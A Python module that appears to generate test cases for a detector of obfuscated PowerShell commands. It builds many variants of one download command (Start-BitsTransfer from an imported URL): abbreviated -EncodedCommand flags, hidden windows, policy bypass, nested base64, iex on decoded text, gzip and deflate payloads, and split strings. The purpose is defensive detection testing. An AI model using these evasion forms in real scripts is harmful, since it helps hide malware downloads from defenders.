"""Encoded commands, base64 and compressed texts: reference b.2, b.3 and the end of b.5."""

from .case import NAMED, PLAIN, POWERSHELL, PWSH, TO, URL, down, b64, encoded, ps, unpacked

# PLAIN, as gzip and as raw deflate. Compressors differ in what they make of the same text, so the
# bytes are kept; what they hold is checked.
GZIPPED = (
    "H4sIAAAAAAACAx3KMQqAMAwAwK/kA213R/UBgrp1iSXFQG0lScHnK44HtxqKuZFNN8GqmQTc2rokgtPsHkLIXEg9"
    "PXjdhXxqV8BPBG4mNa5o3CpMQ9yVROPSj8Ip/uUFHmAkoVwAAAA=")
DEFLATED = (
    "HcoxCoAwDADAr+QDbXdH9QGCunWJJcVAbSVJwecrjge3Goq5kU03waqZBNzauiSC0+weQshcSD09eN2FfGpXwE8E"
    "biY1rmjcKkxD3JVE49KPwin+5QU=")
assert unpacked(GZIPPED, 31) == PLAIN and unpacked(DEFLATED, -15) == PLAIN

WORD = encoded(PLAIN)


def options():
    spellings = ["-e", "-ec", "-en", "-enc", "-enco", "-encod", "-encode", "-encoded", "-encodedc",
                 "-encodedco", "-encodedcom", "-encodedcomm", "-encodedcomma", "-encodedcomman",
                 "-encodedcommand", "-EncodedCommand", "-eNC", "/e", "/enc", "/EncodedCommand",
                 "\u2013enc", "\u2014e", "\u2015EncodedCommand", '-"e"nc', '-e""nc', '"-enc"']
    for spelling in spellings:
        hidden = "encoded-command"
        yield down(f"powershell.exe -nop -w hidden {spelling} {WORD}",
                   "the option as " + spelling, hidden)
    yield down(f"pwsh --enc {WORD}", "two dashes of pwsh", "encoded-command", image=PWSH)
    yield down(f"pwsh.exe -ec {WORD}", "pwsh", "encoded-command", image=PWSH)
    yield down(f'powershell -ec "{WORD}"', "the value in quotes", "encoded-command")
    yield down(f"powershell -e {WORD} -nop", "options behind the value", "encoded-command")
    yield down(f"powershell -NoP -NonI -W Hidden -Exec Bypass -Enc {WORD}", "the usual company",
               "encoded-command")
    yield down(f"C:\\Windows\\Temp\\w.exe -e {WORD}", "a renamed host", "encoded-command",
               image=("w.exe", POWERSHELL[1]))
    yield down(f"powershell -enc {WORD.rstrip('=')}", "the padding left away", "encoded-command")


def commands():
    for option in ("-c", "-co", "-com", "-Command", "/c", "/command", "\u2013c", "-CoMMand"):
        yield down(f'powershell.exe -nop {option} "{PLAIN}"', "the option as " + option)
    yield down(f'powershell -nol -sta -inp none -ou text -ex bypass -c "{PLAIN}"',
               "options with values before it")
    yield down(f'powershell -version 2 -windowstyle 1 -ep bypass "{PLAIN}"', "no -Command")


def nested():
    twice = encoded(f"powershell -enc {WORD}")
    yield down(f"powershell -enc {twice}", "encoded twice", "encoded-command nested")
    thrice = encoded(f"powershell.exe -nop -e {twice}")
    yield down(f"powershell -enc {thrice}", "encoded three times", "encoded-command nested")
    yield down(f"powershell -enc {encoded('iex ' + chr(39) + PLAIN + chr(39))}", "evaluated inside",
               "encoded-command invoke-expression nested")
    tick = encoded(f"&('St'+'art-B`its'.Replace('`','')+'Transfer') {NAMED}")
    yield down(f"powershell -enc {tick}", "put together inside",
               "encoded-command concatenation replace")
    yield down(ps(f"cmd /c powershell -enc {WORD}"), "through cmd.exe", "encoded-command nested")
    yield down(ps(f"Start-Process powershell -ArgumentList '-enc','{WORD}'"), "Start-Process",
               "encoded-command nested")
    yield down(ps(f"saps powershell '-nop -enc {WORD}' -WindowStyle Hidden"),
               "the same by alias, one text", "encoded-command nested")
    yield down(ps(f"$e='{WORD}';powershell -enc $e"), "the value in a variable",
               "encoded-command nested")
    here = encoded("$s=@'\n" + PLAIN + "\n'@\niex $s\n")
    yield down(f"powershell -enc {here}", "a here-string", "encoded-command invoke-expression")
    lines = encoded(f"# updates\r\n$u = '{URL}'\r\n$d = '{TO}'\r\n\r\nif ($true) {{\r\n"
                    "    Start-BitsTransfer `\r\n        -Source $u `\r\n        -Destination $d\r\n"
                    "}\r\n")
    yield down(f"powershell -enc {lines}", "a script of several lines", "encoded-command",
               decoded="")


def inline():
    utf8, utf16, utf32 = b64(PLAIN), b64(PLAIN, "utf-16-le"), b64(PLAIN, "utf-32-le")
    read = "[Text.Encoding]::{}.GetString([Convert]::FromBase64String('{}'))"
    evaluated = "base64 invoke-expression"
    yield down(ps(f"iex({read.format('UTF8', utf8)})"), "UTF-8", evaluated)
    yield down(ps(f"iex({read.format('ASCII', utf8)})"), "ASCII", evaluated)
    yield down(ps(f"iex({read.format('Unicode', utf16)})"), "UTF-16", evaluated)
    yield down(ps(f"iex({read.format('UTF32', utf32)})"), "UTF-32", evaluated)
    yield down(ps(f"iex({read.format('UTF7', utf8.rstrip())})"), "UTF-7 of plain letters",
               evaluated)
    yield down(ps(f"[System.Text.Encoding]::UTF8.GetString([System.Convert]::FromBase64String("
                  f"\"{utf8}\"))|iex"), "names in full, piped", evaluated)
    yield down(ps(f"$b='{utf8}';$t=[Text.Encoding]::UTF8.GetString([Convert]::"
                  "FromBase64String($b));iex $t"), "step by step", evaluated)
    name = b64("Start-BitsTransfer")
    yield down(ps(f"&({read.format('UTF8', name)}) {NAMED}"), "only the name", "base64")
    yield down(ps(f"Start-BitsTransfer ({read.format('UTF8', b64(URL))}) {TO}"), "only the URL",
               "base64", decoded=f"Start-BitsTransfer {URL} {TO}")
    yield down(ps(f"iex({read.format('UTF8', b64('iex(' + read.format('UTF8', utf8) + ')'))})"),
               "twice", evaluated + " nested")
    cut = len(utf8) // 2
    yield down(ps(f"iex([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{utf8[:cut]}'"
                  f"+'{utf8[cut:]}')))"), "in two pieces", evaluated)


def compressed():
    memory = "[IO.MemoryStream][Convert]::FromBase64String('{}')"
    made = "(New-Object IO.MemoryStream(,[Convert]::FromBase64String('{}')))"
    mode = "[IO.Compression.CompressionMode]::Decompress"
    hidden = "base64 compressed invoke-expression"
    yield down(ps(f"iex(New-Object IO.StreamReader((New-Object IO.Compression.DeflateStream("
                  f"{memory.format(DEFLATED)},{mode})),[Text.Encoding]::ASCII)).ReadToEnd()"),
               "deflate", hidden)
    yield down(ps(f"IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream("
                  f"{made.format(GZIPPED)},{mode}))).ReadToEnd()"), "gzip", hidden)
    yield down(ps(f"$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('{GZIPPED}'));"
                  f"IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,{mode}"
                  "))).ReadToEnd();"), "gzip step by step", hidden)
    yield down(ps(f"(New-Object System.IO.StreamReader((New-Object System.IO.Compression."
                  f"GZipStream({made.format(GZIPPED)},'Decompress')),[Text.Encoding]::UTF8))"
                  ".ReadToEnd()|iex"), "the mode as a text, piped", hidden)
    inner = (f"iex(New-Object IO.StreamReader((New-Object IO.Compression.DeflateStream("
             f"{memory.format(DEFLATED)},{mode})),[Text.Encoding]::ASCII)).ReadToEnd()")
    yield down(f"powershell -w hidden -enc {encoded(inner)}", "deflate in an encoded command",
               hidden + " encoded-command nested")


def cases():
    for group in (options, commands, nested, inline, compressed):
        yield from group()
